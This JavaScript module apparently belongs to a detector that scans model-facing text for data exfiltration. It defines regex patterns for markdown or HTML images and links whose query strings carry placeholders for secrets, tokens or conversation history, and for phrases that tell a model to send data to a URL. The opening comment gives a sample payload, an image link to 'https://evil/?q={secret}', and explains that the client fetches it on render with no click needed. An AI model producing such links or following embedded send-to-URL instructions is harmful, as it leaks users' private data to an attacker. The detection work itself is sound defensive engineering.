// Exfiltration through rendered links and images. A markdown image is fetched by the client as soon as
// the answer renders, so "![x](https://evil/?q={secret})" leaks whatever the model substitutes, without a
// click. Query parameters or template placeholders in such a URL are the tell; plain images and links
// weigh little on their own.
import { re2 } from '../../util/re2.js';

const URL_HEAD = '(?:https?:)?//[^\\s)"\'>]';
/** Markdown or HTML image whose URL carries a query string or a fill-in placeholder. */
export const IMAGE_WITH_DATA = re2(
  `!\\[[^\\]\\n]*\\]\\( ?${URL_HEAD}+(?:\\?[^\\s)]*=|\\{|\\[|<|%s|\\$\\{?)` +
  `|<img[^>]*src ?= ?["']?${URL_HEAD}+(?:\\?[^\\s"'>]*=|\\{|\\$\\{?)`,
  'gu',
);

/** Any external image, and links whose query is a placeholder to be filled with conversation data. */
export const IMAGE_OR_DATA_LINK = re2(
  `!\\[[^\\]\\n]*\\]\\( ?${URL_HEAD}` +
  `|\\]\\( ?${URL_HEAD}+\\?[^\\s)]*=(?:\\{|\\[|<|%s|\\$)` +
  '|https?://[^\\s)"\'>]+[?&](?:q|data|d|p|c|secret|password|pw|key|token|msg|text|conv|conversation|history|prompt|info|payload|exfil|content|chat|memory|email|user)=(?:\\{|\\[|<|%s|\\$)',
  'gu',
);

/** Instructions to move data to a URL, server or address. */
export const SEND_TO_URL = re2(
  '(?:send|post|upload|transmit|forward|exfiltrate|leak|email|submit|append|attach|encode|include|put|insert|add|' +
  'concatenate|fetch|request|load|render|navigate)(?:s|ing|ed)?(?: [^\\s.!?]+){0,8} (?:to|in|into|at|via|from) ' +
  '(?:the |this |that |a |an )?(?:url|link|endpoint|webhook|server|query(?: string)?|image(?: url)?|https?://|www\\.|[a-z0-9-]+\\.(?:com|net|org|io|ru|xyz|info|biz|site|app)\\b)',
  'gu',
);

/** Sending the reader somewhere: visit, click, download, install + an address. */
export const PROMOTE_URL = re2(
  '(?:visit|click|go to|check out|download|install|sign up (?:at|on)|register (?:at|on)|head (?:over )?to|navigate to|open)' +
  '(?: [^\\s.!?]+){0,5} (?:https?://|www\\.|[a-z0-9-]+\\.(?:com|net|org|io|ru|xyz|info|biz|site|app|top|cn)\\b)',
  'gu',
);
